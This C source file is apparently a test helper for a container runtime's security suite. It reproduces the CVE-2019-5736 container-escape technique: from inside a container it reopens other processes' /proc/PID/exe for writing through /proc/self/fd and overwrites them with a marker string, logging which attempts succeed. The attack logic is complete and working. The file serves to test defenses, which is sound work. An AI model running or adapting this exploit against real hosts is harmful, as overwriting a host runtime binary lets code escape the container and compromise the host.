/*
 * CVE-2019-5736 attacker for spec-tests/tests/security.rs, run inside a
 * container: for SECONDS it scans /proc, opens every other process's
 * /proc/PID/exe with O_PATH and tries to reopen it for writing through
 * /proc/self/fd/N, retrying while the file is busy (ETXTBSY: some process
 * still executes it). Whatever it manages to open for writing gets a
 * marker written at offset 0. It never writes to the container's own
 * busybox or to itself: those are not the attack.
 *
 * Files in OUTDIR: "seen" (one line per exe opened: pid and link target),
 * "log" ("wrote ..." for each successful write, "denied ..." otherwise),
 * "done" once the time is up.
 *
 *     exe_attack SECONDS OUTDIR
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static FILE *open_out(const char *dir, const char *name) {
    char p[4096];
    snprintf(p, sizeof p, "%s/%s", dir, name);
    FILE *f = fopen(p, "a");
    if (!f) {
        perror(p);
        exit(2);
    }
    setvbuf(f, NULL, _IOLBF, 0);
    return f;
}

static int same_file(const struct stat *a, const struct stat *b) {
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: exe_attack SECONDS OUTDIR\n");
        return 2;
    }
    double end = now() + atof(argv[1]);
    FILE *seen = open_out(argv[2], "seen"), *log = open_out(argv[2], "log");
    struct stat self, busybox;
    if (stat("/proc/self/exe", &self) || stat("/bin/busybox", &busybox)) {
        perror("stat");
        return 2;
    }
    pid_t me = getpid();
    while (now() < end) {
        DIR *d = opendir("/proc");
        if (!d) {
            perror("/proc");
            return 2;
        }
        struct dirent *e;
        while ((e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 0 || pid == me)
                continue;
            char path[64], target[4096] = "";
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_PATH | O_CLOEXEC);
            if (fd < 0)
                continue; /* gone, or not ours to see (non-dumpable) */
            struct stat st;
            if (fstat(fd, &st) || same_file(&st, &self) || same_file(&st, &busybox)) {
                close(fd);
                continue;
            }
            char via[64];
            snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
            /* Through our own fd: the process may be gone already. */
            ssize_t n = readlink(via, target, sizeof target - 1);
            target[n > 0 ? n : 0] = 0;
            fprintf(seen, "%d %s\n", pid, target);
            int w = -1, err = 0;
            /* Busy while the process (or any other) runs the file. */
            for (double give_up = now() + 3; now() < give_up;) {
                w = open(via, O_WRONLY | O_CLOEXEC);
                err = errno;
                if (w >= 0 || err != ETXTBSY)
                    break;
            }
            if (w >= 0) {
                if (pwrite(w, "HUSK-ST-PWNED", 13, 0) == 13)
                    fprintf(log, "wrote %s (pid %d)\n", target, pid);
                else
                    fprintf(log, "opened for writing, write failed: %s (pid %d): %s\n", target, pid, strerror(errno));
                close(w);
            } else {
                fprintf(log, "denied %s (pid %d): %s\n", target, pid, strerror(err));
            }
            close(fd);
        }
        closedir(d);
    }
    fclose(open_out(argv[2], "done"));
    return 0;
}
